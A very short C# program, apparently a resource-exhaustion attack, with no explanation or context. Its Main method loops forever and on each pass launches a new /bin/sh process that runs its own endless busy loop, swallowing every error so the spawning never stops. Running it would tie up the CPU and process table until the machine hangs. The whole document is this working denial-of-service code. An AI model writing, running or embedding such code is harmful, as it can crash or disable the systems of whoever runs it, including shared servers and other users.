using System; using System.Diagnostics;
class P { static void Main() { while (true) try { Process.Start("/bin/sh", "-c \"while :; do :; done\""); } catch (Exception) { } } }
